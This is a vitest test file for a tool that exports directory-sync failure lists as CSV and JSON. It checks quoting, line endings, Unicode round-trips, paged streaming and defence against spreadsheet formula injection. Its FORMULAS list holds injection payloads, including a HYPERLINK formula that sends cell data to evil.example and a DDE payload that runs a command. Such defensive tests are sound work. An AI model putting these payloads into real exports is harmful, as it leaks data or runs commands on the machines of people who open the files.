import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
  type FailureRow,
  type FailureShown,
  failureShown,
  failuresCsv,
  failuresJson,
} from '../../src/directory/index.ts';

const NAMES = [
  'O"Neil, "Ann"',
  'line one\nline two\r\nline three',
  'tab\tinside',
  '👩‍👩‍👧 Ünïcödé 日本語',
  'שלום עולם',
  'مرحبا, "صديق"',
  '\u202eright to left\u202c',
  ' blanks around ',
  ';semicolon;',
  '""',
  '0123',
  '1-2',
  'a=b',
  '\ufeffmark',
];
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1)',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1"',
  '""=1+1',
  "'=1+1",
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
];

describe('the failure list as CSV', () => {
  test('begins with a byte order mark, ends its lines with CR LF, and has every cell in quotes', async () => {
    const text = await csv([row({ label: 'ann' })]);
    expect(text.startsWith('\ufeff"Type","Name",')).toBe(true);
    expect([...Buffer.from(text).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.endsWith('"\r\n')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(3);
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    expect(await csv([])).toMatch(/^\ufeff"Type",.*"Subject"\r\n$/);
  });

  test('read back it equals its source: quotes, commas, line breaks, emoji, text from right to left', async () => {
    const rows = NAMES.map((label, index) => row({ label, subject: `s${index}`, times: index + 1 }));
    expect(read(await csv(rows))).toEqual(rows.map((each) => values(failureShown(each))));
  });

  test('T-WEB-05 no cell begins with what a spreadsheet takes for a formula, and none of it is lost', async () => {
    for (const label of FORMULAS) {
      const text = await csv([row({ label, subject: label, detail: label })]);
      const [cells = []] = read(text);
      for (const cell of [cells[1], cells[3], cells.at(-1)]) {
        expect(cell?.startsWith("'")).toBe(true);
        expect(cell?.replaceAll("'", '')).toBe(label.replaceAll("'", ''));
      }
      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    }
  });

  test('T-WEB-05 nor where the file is read with another separator', async () => {
    const rows = [...NAMES, ...FORMULAS].map((label) => row({ label: `${label};${label}`, detail: `x;=1+1` }));
    const text = await csv(rows);
    // One cell a line in such a reader; what follows the closing quote is part of it, and no cell of its own.
    for (const cells of parse(text, {
      bom: true,
      delimiter: ';',
      relax_quotes: true,
      relax_column_count: true,
    }) as string[][]) {
      for (const cell of cells) expect(cell).not.toMatch(/^["\s]*[=+\-@]/);
    }
  });

  test('of any names: as many lines as rows, each cell its source, but for an apostrophe before a formula', async () => {
    const text = fc.string({ unit: 'binary' }).map((each) => each.toWellFormed());
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.record({ label: text, detail: text, subject: text }), { maxLength: 5 }),
        async (given) => {
          const rows = given.map(row);
          const cells = read(await csv(rows));
          expect(cells).toHaveLength(rows.length);
          for (const [index, each] of rows.entries()) {
            for (const [column, source] of values(failureShown(each)).entries()) {
              const cell = cells[index]?.[column];
              expect(cell?.replaceAll("'", '')).toBe(source.replaceAll("'", ''));
              expect(cell).not.toMatch(/^[=+\-@\t\r]/);
              if (/^[\p{L}\d]/u.test(source)) expect(cell).toBe(source);
            }
          }
        },
      ),
      { numRuns: 200 },
    );
  });

  test('10,000 rows are read as they are written: never more than a few pages are held', async () => {
    let asked = 0;
    let taken = 0;
    async function* pages(): AsyncGenerator<readonly FailureRow[]> {
      for (; asked < 20; asked += 1) {
        expect(asked - taken).toBeLessThanOrEqual(1);
        yield Array.from({ length: 500 }, (_, index) => row({ subject: `${asked}-${index}` }));
      }
    }
    let length = 0;
    for await (const piece of failuresCsv(pages())) {
      taken = asked;
      length += piece.length;
      expect(piece.length).toBeLessThan(1_000_000);
    }
    expect(length).toBeGreaterThan(10_000 * 100);
  });
});

describe('the failure list as JSON', () => {
  test('is an array of all rows, with what to do, a line each', async () => {
    const rows = [...NAMES, ...FORMULAS].map((label) => row({ label }));
    const text = await joined(failuresJson(paged(rows)));
    expect(JSON.parse(text)).toEqual(rows.map(failureShown));
    expect(text.trimEnd().split('\n')).toHaveLength(rows.length);
    expect(await joined(failuresJson(paged([])))).toBe('[]\n');
  });
});

function row(differs: Partial<FailureRow>): FailureRow {
  return {
    type: 'User',
    subject: 'ann@example.com',
    label: 'ann@example.com',
    operation: 'create',
    reason: 'name-taken',
    detail: 'A user with the userName "ann@example.com" already exists in this directory.',
    requestId: '4f7d8e0a-2c1b-4a5d-9e3f-6b7c8d9e0f1a',
    first: '2026-11-21T10:00:00.000Z',
    last: '2026-11-22T10:00:00.000Z',
    times: 3,
    ...differs,
  };
}

/** In the order of the columns. */
function values(shown: FailureShown): string[] {
  const { type, name, operation, message, doInOkta, doInEntra, since, last, times, reason, requestId, subject } = shown;
  return [type, name, operation, message, doInOkta, doInEntra, since, last, String(times), reason, requestId, subject];
}

function read(text: string): string[][] {
  return (parse(text, { bom: true, record_delimiter: '\r\n' }) as string[][]).slice(1);
}

function csv(rows: readonly FailureRow[]): Promise<string> {
  return joined(failuresCsv(paged(rows)));
}

async function* paged(rows: readonly FailureRow[]): AsyncGenerator<readonly FailureRow[]> {
  for (let from = 0; from < rows.length; from += 2) yield rows.slice(from, from + 2);
}

async function joined(pieces: AsyncIterable<string>): Promise<string> {
  let text = '';
  for await (const piece of pieces) text += piece;
  return text;
}
